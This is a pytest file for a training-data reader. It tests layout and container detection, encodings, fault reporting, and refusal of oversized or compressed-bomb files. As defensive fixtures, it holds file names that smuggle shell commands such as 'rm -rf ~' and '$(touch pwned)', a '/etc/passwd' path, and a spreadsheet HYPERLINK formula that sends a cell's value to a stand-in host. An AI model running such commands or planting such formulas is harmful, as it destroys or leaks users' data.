"""Data sets of every layout, container and fault: what is read, and what is said about the rest."""

import bz2
import gzip
import json
import lzma
import random
import tarfile
import tracemalloc
import zipfile
from collections import Counter
from pathlib import Path

import openpyxl
import pyarrow  # type: ignore[import-untyped]
import pytest

from chatbot.common.errors import InputError
from finetune.data.examples import Columns, Example, Fault, Format, Turn
from finetune.data.formats import detect, read_examples
from finetune.data.rows import source
from tests.finetune import faults
from tests.finetune.faults import CASES, CHINESE, JAPANESE, REFUSED, jsonl, raw

SHARED = Path(__file__).parents[4] / "shared" / "data" / "train"


def read(path: Path, columns: Columns | None = None, name: str = "") -> tuple[Format, list[Example], list[Fault]]:
    format = detect(path, name)
    items = list(read_examples(path, format, columns))
    return format, [i for i in items if isinstance(i, Example)], [i for i in items if isinstance(i, Fault)]


@pytest.mark.parametrize("name", [name for name, case in CASES.items() if case.usable >= 0])
def test_every_fault_is_named_with_its_row_and_costs_no_other(name: str, tmp_path: Path) -> None:
    case = CASES[name]
    _, good, bad = read(case.make(tmp_path))
    assert tuple((fault.row, fault.code) for fault in bad) == case.faults
    assert len(good) == case.usable
    assert all(10 < len(fault.reason) < 400 and fault.reason.endswith((".", "?")) for fault in bad)


def test_a_gzip_file_that_breaks_off_gives_what_came_before(tmp_path: Path) -> None:
    _, good, bad = read(CASES["a damaged gzip file"].make(tmp_path))
    assert [(fault.row, fault.code) for fault in bad] == [(len(good) + 1, "damaged")]
    assert 100 < len(good) < 2_000
    assert good[50].answer == "It is 51."


@pytest.mark.parametrize("name", REFUSED)
def test_what_is_no_data_set_is_refused(name: str, tmp_path: Path) -> None:
    make, said = REFUSED[name]
    with pytest.raises(InputError, match=said):
        read(make(tmp_path))


def test_a_gigabyte_is_refused_at_once(tmp_path: Path) -> None:
    with pytest.raises(InputError, match=r"954 MiB; at most 512 MiB"):
        detect(faults.gigabyte(tmp_path))


def test_a_small_file_cannot_unpack_without_end(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(source, "MAX_BYTES", 8 * 2**20)
    path = faults.bomb(tmp_path, 9 * 2**20)
    assert path.stat().st_size < 20_000
    with pytest.raises(InputError, match="unpacks to more than 8 MiB"):
        read(path)


def test_too_many_rows_are_refused(tmp_path: Path) -> None:
    path = jsonl(tmp_path / "a.jsonl", [faults.row(n) for n in range(4)])
    with pytest.raises(InputError, match="more than 3 rows"):
        list(read_examples(path, detect(path), most=3))


@pytest.mark.parametrize("name", ["a.jsonl", "a.json", "a.csv"])
def test_a_large_file_streams(name: str, tmp_path: Path) -> None:
    path = faults.many(tmp_path, name, 10)
    fractions: list[float] = []
    tracemalloc.start()
    try:
        count = sum(isinstance(e, Example) for e in read_examples(path, detect(path), told=fractions.append))
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert count == 10_000
    assert peak < 6 * 2**20, f"{peak / 2**20:.1f} MiB"
    assert fractions == sorted(fractions)
    assert 0 <= fractions[0] < 0.2
    assert 0.8 < fractions[-1] <= 1


# Layouts

ASKED = (Turn("user", "What is a banyan?"), Turn("assistant", "A tree."))
SYSTEM = Turn("system", "Be brief.")
LAYOUTS: dict[str, tuple[dict[str, object], tuple[Turn, ...]]] = {
    "messages": ({"messages": [{"role": "user", "content": "What is a banyan?"}, {"role": "assistant", "content": "A tree."}]}, ASKED),
    "messages of parts": (
        {"messages": [{"role": "user", "content": [{"type": "text", "text": "What is a banyan?"}]}, {"role": "assistant", "content": "A tree."}]},
        ASKED,
    ),
    "sharegpt": ({"system": "Be brief.", "conversations": [{"from": "human", "value": "What is a banyan?"}, {"from": "gpt", "value": "A tree."}]}, (SYSTEM, *ASKED)),
    "alpaca": ({"instruction": "What is this?", "input": "Banyan", "output": "A tree."}, (Turn("user", "What is this?\n\nBanyan"), ASKED[1])),
    "alpaca without input": ({"instruction": "What is a banyan?", "input": "", "output": "A tree."}, ASKED),
    "alpaca with history": (
        {"instruction": "What is a banyan?", "output": "A tree.", "system": "Be brief.", "history": [["Hi", "Hello"]]},
        (SYSTEM, Turn("user", "Hi"), Turn("assistant", "Hello"), *ASKED),
    ),
    "prompt-completion": ({"prompt": "What is a banyan?\n", "completion": " A tree."}, ASKED),
    "prompt-completion of turns": (
        {"prompt": [{"role": "system", "content": "Be brief."}, {"role": "user", "content": "What is a banyan?"}], "completion": [{"role": "assistant", "content": "A tree."}]},
        (SYSTEM, *ASKED),
    ),
    "columns": ({"question": "What is a banyan?", "answer": "A tree.", "id": 4}, ASKED),
}  # fmt: skip


@pytest.mark.parametrize("name", LAYOUTS)
def test_every_layout_gives_the_same_conversation(name: str, tmp_path: Path) -> None:
    row, turns = LAYOUTS[name]
    format, good, bad = read(jsonl(tmp_path / "a.jsonl", [row, row]))
    assert format.layout == name.partition(" ")[0]
    assert [example.turns for example in good] == [turns, turns]
    assert [example.row for example in good] == [1, 2]
    assert not bad
    written = jsonl(tmp_path / "again.jsonl", [example.to_dict() for example in good])
    assert [example.turns for example in read(written)[1]] == [turns, turns]


def containers(folder: Path, rows: list[dict[str, str]]) -> list[Path]:
    """The same table in every container."""
    import pyarrow.ipc  # type: ignore[import-untyped]
    import pyarrow.parquet  # type: ignore[import-untyped]

    names = list(rows[0])
    quoted = [
        "\n".join([sign.join(names), *(sign.join('"' + r[n].replace('"', '""') + '"' for n in names) for r in rows)])
        for sign in ",;"
    ]
    pyarrow.parquet.write_table(pyarrow.Table.from_pylist(rows), folder / "a.parquet")
    texts = {
        "a.csv": quoted[0], "semicolon.csv": quoted[1], "windows.csv": quoted[0].replace("\n", "\r\n"),
        "a.tsv": "\n".join(["\t".join(names), *("\t".join(r[n] for n in names) for r in rows)]),
        "a.json": json.dumps(rows), "pretty.json": json.dumps(rows, indent=2),
        "keyed.json": json.dumps({"version": 12, "data": rows, "note": {"a": []}}),
        "one_line.json": json.dumps({"rows": rows}), "unnamed": json.dumps(rows, ensure_ascii=False),
        "a.jsonl": "\n".join(json.dumps(r) for r in rows), "crlf.jsonl": "\r\n".join(json.dumps(r) for r in rows),
    }  # fmt: skip
    for name, text in texts.items():
        (folder / name).write_bytes(text.encode())
    (folder / "a.csv.gz").write_bytes(gzip.compress(quoted[0].encode()))
    table = pyarrow.Table.from_pylist(rows)
    with (
        pyarrow.ipc.new_file(folder / "a.arrow", table.schema) as file,
        pyarrow.ipc.new_stream(folder / "s.arrow", table.schema) as stream,
    ):
        file.write_table(table)
        stream.write_table(table)
    for ending, pack in (("bz2", bz2.compress), ("xz", lzma.compress)):
        (folder / f"a.jsonl.{ending}").write_bytes(pack(texts["a.jsonl"].encode()))
    with pyarrow.CompressedOutputStream(folder / "a.csv.zst", "zstd") as packed:
        packed.write(texts["a.csv"].encode())
    book = openpyxl.Workbook()
    for cells in ([*names], *([row[name] for name in names] for row in rows)):
        book.active.append(cells)
    book.save(folder / "a.xlsx")
    with zipfile.ZipFile(folder / "a.zip", "w") as archive:
        archive.writestr("data/part-1.jsonl", "\n".join(json.dumps(r) for r in rows[:100]))
        archive.writestr("data/part-2.csv", "\n".join([quoted[0].splitlines()[0], *quoted[0].splitlines()[101:]]))
        archive.writestr("README.md", "About the data.")
    (folder / "utf16.csv").write_bytes(quoted[0].encode("utf-16"))
    (folder / "bom.csv").write_bytes(quoted[0].encode("utf-8-sig"))
    (folder / "bom.json").write_bytes(json.dumps(rows).encode("utf-8-sig"))
    return sorted(folder.iterdir())


def test_every_container_gives_the_same_examples(tmp_path: Path) -> None:
    rows = [{"instruction": f'Say "{number}", please; 你好', "output": f"It is {number} 😀"} for number in range(300)]
    paths = containers(tmp_path, rows)
    assert len(paths) == 23
    for path in paths:
        format, good, bad = read(path)
        assert (format.layout, len(good), bad) == ("alpaca", 300, []), path.name
        assert [(e.prompt[0].content, e.answer) for e in good] == [(r["instruction"], r["output"]) for r in rows], (
            path.name
        )
        first = 1 if format.container in ("json", "jsonl", "parquet", "arrow", "archive") else 2
        assert [example.row for example in good] == list(range(first, first + 300)), path.name


def test_files_of_a_folder_or_an_archive_are_one_data_set_and_their_names_say_what_for(tmp_path: Path) -> None:
    folder = tmp_path / "set"
    (folder / "data").mkdir(parents=True)
    jsonl(folder / "data" / "train-00000-of-00001.jsonl", [faults.row(n) for n in range(3)])
    jsonl(folder / "data" / "test.jsonl", [faults.row(9), "{"])
    with zipfile.ZipFile(tmp_path / "set.zip", "w") as archive:
        for path in sorted(folder.rglob("*.jsonl")):
            archive.write(path, path.relative_to(folder).as_posix())
    for kind in ("", "gz", "bz2", "xz"):
        with tarfile.open(tmp_path / f"set.tar{kind}", f"w:{kind}") as tar:  # type: ignore[call-overload]
            for path in sorted(folder.rglob("*.jsonl")):
                tar.add(path, f"./{path.relative_to(folder).as_posix()}")
    (tmp_path / "set.tar.zst").write_bytes(pyarrow.compress((tmp_path / "set.tar").read_bytes(), "zstd", asbytes=True))
    tars = [tmp_path / f"set.tar{kind}" for kind in ("", "gz", "bz2", "xz", ".zst")]
    (folder / "dataset_info.json").write_text('{"builder_name": "x", "features": {}}', "utf-8")
    for where in (folder, tmp_path / "set.zip", *tars):
        _, good, bad = read(where)
        assert [(example.row, example.split) for example in good] == [
            (1, "validation"),
            *((n, "train") for n in (3, 4, 5)),
        ]
        assert [(fault.row, fault.reason.removeprefix("./")[:22]) for fault in bad] == [(2, "data/test.jsonl, row 2")]
    with pytest.raises(InputError, match="None of the files"):
        read(_empty(tmp_path))


ROWS = [faults.row(n) for n in range(3)]
WRAPPED: dict[str, object] = {
    "metadata before": {"version": 1, "authors": [{"name": "Ada"}, {"name": "Bo"}], "data": ROWS},
    "a name of its own": {"authors": [{"name": "Ada"}], "trunks": ROWS},
    "metadata after": {"trunks": ROWS, "authors": [{"name": "Ada"}, {"name": "Bo"}]},
    "two levels": {"version": 2, "result": {"count": 3, "items": ROWS}},
    "three levels": {"result": {"page": {"rows": ROWS}}},
    "splits below": {"version": 1, "data": {"train": ROWS}},
    "the viewer of the hub": {
        "features": [{"feature_idx": 0, "name": "messages", "type": {}}],
        "rows": [{"row_idx": n, "row": row, "truncated_cells": []} for n, row in enumerate(ROWS)],
        "num_rows_total": 3,
    },
    "one row": ROWS[0],
    "rows under their names": {f"tree-{n}": row for n, row in enumerate(ROWS)},
    "a table under metadata": {"version": 1, "data": {"question": ["a", "b", "c"], "answer": ["x", "y", "z"]}},
    "one row with an object": {"text": "A banyan.", "meta": {"entities": [{"name": "x"}, {"name": "y"}]}},
    "one row with tools": {**ROWS[0], "meta": {"data": [{"name": "x"}, {"name": "y"}]}},
    "one row with a list": {"instruction": "Which?", "references": [{"title": "x"}, {"title": "y"}], "output": "This."},
    "articles": {
        "version": "1.1",
        "data": [
            {
                "title": "T",
                "paragraphs": [
                    {
                        "context": "Many trunks.",
                        "qas": [
                            {
                                "question": f"Trunks {n}?",
                                "answers": [{"text": "Many", "answer_start": 0}, {"text": "x"}],
                            }
                            for n in range(3)
                        ],
                    }
                ],
            },
        ],
    },
}


@pytest.mark.parametrize("name", WRAPPED)
def test_rows_are_found_in_whatever_stands_around_them(name: str, tmp_path: Path) -> None:
    for path, indent in ((tmp_path / "a.json", 1), (tmp_path / "a.jsonl", None)):
        path.write_text(json.dumps(WRAPPED[name], indent=indent), "utf-8")
        _, good, bad = read(path)
        assert bad == []
        assert len(good) == (1 if name.startswith("one row") else 3), path.suffix


def test_what_came_before_a_damage_in_a_wrapped_file_is_kept(tmp_path: Path) -> None:
    path = tmp_path / "a.json"
    path.write_text(json.dumps({"trunks": ROWS}, indent=1)[:-30], "utf-8")
    _, good, bad = read(path)
    assert (len(good), [fault.code for fault in bad]) == (2, ["json"])


def _empty(folder: Path) -> Path:
    with zipfile.ZipFile(folder / "empty.zip", "w") as archive:
        archive.writestr("a.png", b"x")
    return folder / "empty.zip"


def test_row_numbers_are_lines_even_after_quoted_line_ends(tmp_path: Path) -> None:
    text = 'instruction,output\n"two\nlines",a\n\nplain,\nlast,b\n'
    _, good, bad = read(raw("a.csv", text)(tmp_path))
    assert [(e.row, e.prompt[0].content) for e in good] == [(2, "two\nlines"), (6, "last")]
    assert [fault.row for fault in bad] == [5]


@pytest.mark.parametrize(("lines", "faulty"), [(2000, []), (2001, [3])])
def test_a_quote_that_closes_more_than_two_thousand_lines_on_was_never_meant(
    lines: int, faulty: list[int], tmp_path: Path
) -> None:
    path = tmp_path / "a.csv"
    path.write_text('prompt,completion\none,1\n"ask' + "\nmore" * lines + '",answer\ntwo,2\n', "utf-8")
    _, good, bad = read(path)
    assert [fault.row for fault in bad if fault.code == "quoting"] == faulty
    assert (good[0].answer, good[-1].answer) == ("1", "2")


def test_plain_text_has_a_paragraph_or_a_line_an_example(tmp_path: Path) -> None:
    _, good, _ = read(raw("a.txt", "One\nverse.\n\n\nAnother, [1]\nverse.\n")(tmp_path))
    assert [(example.row, example.text) for example in good] == [(1, "One\nverse."), (5, "Another, [1]\nverse.")]
    _, good, _ = read(raw("b.txt", "One.\nTwo.\n")(tmp_path))
    assert [example.text for example in good] == ["One.", "Two."]
    format, good, _ = read(jsonl(tmp_path / "c.jsonl", [{"text": "One.", "id": 3}, {"text": " "}]))
    assert (format.layout, [example.text for example in good]) == ("text", ["One."])


@pytest.mark.parametrize(
    ("text", "codec", "name"),
    [(CHINESE, "gb18030", "gb18030"), (JAPANESE, "shift_jis", "cp932"), (JAPANESE, "euc_jp", "euc_jp"),
     ("我們今天要去臺北看電影，這部電影的評價非常好，請問你要一起來嗎？", "big5", "big5"),
     ("Die Straße ist für Fußgänger gesperrt, weil die Brücke über den Fluß gebaut wird. Größe prüfen! " * 2, "cp1252", "cp1252")],
)  # fmt: skip
def test_old_encodings_are_read_and_told(text: str, codec: str, name: str, tmp_path: Path) -> None:
    rows = [json.dumps({"prompt": f"{number} {text}", "completion": text}, ensure_ascii=False) for number in range(5)]
    format, good, bad = read(jsonl(tmp_path / "a.jsonl", [row.encode(codec) for row in rows]))
    assert (format.encoding, bad) == (name, [])
    assert [example.answer for example in good] == [text.strip()] * 5
    path = tmp_path / "a.json"
    path.write_bytes(("[" + ",".join(rows) + "]").encode(codec))
    assert [example.answer for example in read(path)[1]] == [text.strip()] * 5


def test_a_single_strange_byte_is_no_reason_to_guess_an_encoding(tmp_path: Path) -> None:
    format, good, bad = read(raw("a.csv", b"prompt,completion\nna\xefve,x\na,b\n")(tmp_path))
    assert (format.encoding, len(good), [(f.row, f.code) for f in bad]) == ("utf-8", 1, [(2, "encoding")])


# Columns


def test_number_labels_get_names_and_templates(tmp_path: Path) -> None:
    path = jsonl(
        tmp_path / "a.jsonl",
        [
            {"text": "good {label}", "label": 1},
            {"text": "bad", "label": 0.0},
            {"text": "odd", "label": 7},
            {"text": "", "label": 1},
        ],
    )
    columns = Columns(
        prompt="Classify {{sentiment}}: {text}", completion="{label}", label_column="label",
        labels=(("0", "negative"), ("1", "positive")),
    )  # fmt: skip
    _, good, bad = read(path, columns)
    assert [(e.prompt[0].content, e.answer) for e in good] == [
        ("Classify {sentiment}: good {label}", "positive"),
        ("Classify {sentiment}: bad", "negative"),
    ]
    assert [(f.row, f.code) for f in bad] == [(3, "unknown_label"), (4, "empty_prompt")]
    assert Columns.from_dict(columns.to_dict()) == columns


def test_unknown_columns_need_a_mapping_and_a_mapping_needs_its_columns(tmp_path: Path) -> None:
    path = jsonl(tmp_path / "a.jsonl", [{"en": "tree", "fr": "arbre"}])
    _, good, bad = read(path)
    assert (good, [f.code for f in bad]) == ([], ["unmapped"])
    _, good, _ = read(path, Columns(prompt="Translate: {en}", completion="{fr}", system="Be brief."))
    assert good[0].turns == (SYSTEM, Turn("user", "Translate: tree"), Turn("assistant", "arbre"))
    with pytest.raises(InputError, match=r"no column 'de'.*en, fr"):
        read(path, Columns(prompt="{en}", completion="{de}"))
    for reach in ("{en.__class__}", "{en[0]}", "{0}", "{}"):
        with pytest.raises(InputError, match="no column"):
            read(path, Columns(prompt=reach, completion="{fr}"))


def test_a_table_without_a_header_loses_no_row(tmp_path: Path) -> None:
    path = raw("a.csv", "tree,arbre\nleaf,feuille\n")(tmp_path)
    _, good, _ = read(path, Columns(prompt="{column_1}", completion="{column_2}", header=False))
    assert [(e.row, e.answer) for e in good] == [(1, "arbre"), (2, "feuille")]


@pytest.mark.parametrize(
    "values",
    [{}, {"prompt": "{a}"}, {"text": "{a}", "prompt": "{b}"}, {"prompt": "{a}", "completion": "{b}", "labels": {"0": "x"}},
     {"prompt": 3, "completion": "{b}"}, {"prompt": "{a}", "completion": "{b}", "path": "x"},
     {"text": "{a}", "labels": [1]}, {"text": "{a}", "header": "no"}],
)  # fmt: skip
def test_a_mapping_that_says_too_little_or_too_much_is_refused(values: dict[str, object]) -> None:
    with pytest.raises(InputError):
        Columns.from_dict(values)


# What must not do harm


def test_formula_cells_are_flagged_and_kept_as_text(tmp_path: Path) -> None:
    _, good, bad = read(faults.formulas(tmp_path))
    assert not bad
    assert [example.row for example in good if "formula" in example.remarks] == [2, 3, 4, 5]
    assert good[0].prompt[0].content == '=HYPERLINK("http://x.example/?"&A1,"Click")'


@pytest.mark.parametrize(
    "name", ["../../x; rm -rf ~", "/etc/passwd", "a\0b.csv", "$(touch pwned).jsonl", "", "." * 5000]
)
def test_a_name_is_only_a_name(name: str, tmp_path: Path) -> None:
    path = faults.one_row(tmp_path)
    before = sorted(tmp_path.rglob("*"))
    assert len(read(path, name=name)[1]) == 1
    assert sorted(tmp_path.rglob("*")) == before
    evil = tmp_path / "; rm -rf ~ $(touch pwned) `x`.csv"
    evil.write_bytes(path.read_bytes())
    assert len(read(evil)[1]) == 1
    assert sorted(tmp_path.rglob("*")) == sorted([*before, evil])


def test_no_mutation_of_a_file_is_dropped_or_crashes(tmp_path: Path) -> None:
    """Bytes of real files are overwritten, cut out and doubled: it is always rows and faults, or one plain refusal."""
    chance, seen = random.Random(0), Counter[str]()
    tables = containers(tmp_path, [{"instruction": f'Say "{n}", 你好', "output": f"{n} 😀"} for n in range(30)])
    target = tmp_path / "mutant"
    for path in tables * 25:
        data = bytearray(path.read_bytes())
        for _ in range(chance.randint(1, 4)):
            at, size = chance.randrange(len(data)), chance.randint(1, 12)
            new = chance.choice([b"", bytes(chance.randbytes(size)), data[at : at + 40] * 2, b'"', b"\n", b"[{", b"\\"])
            data[at : at + size] = new
        target.write_bytes(data)
        try:
            _, good, bad = read(target, name=path.name)
        except InputError as error:
            assert str(error).endswith(".")
            seen["refused"] += 1
            continue
        rows = [example.row for example in good] + [fault.row for fault in bad]
        assert len(rows) == len(set(rows))
        seen.update(["read"] + [fault.code for fault in bad])
    assert {"json", "encoding", "quoting", "columns"} <= set(seen), seen
    assert seen["read"] > 200


@pytest.mark.skipif(not SHARED.is_dir(), reason="no shared data here")
@pytest.mark.parametrize(
    ("name", "layout", "rows"),
    [("demo_alpaca", "alpaca", 500), ("demo_messages", "messages", 425), ("demo_prompt_completion", "prompt-completion", 425),
     ("demo_sharegpt", "sharegpt", 397)],
)  # fmt: skip
def test_real_data(name: str, layout: str, rows: int) -> None:
    format, good, bad = read(SHARED / "formats" / f"{name}.jsonl.gz")
    assert (format.layout, len(good), bad) == (layout, rows, [])
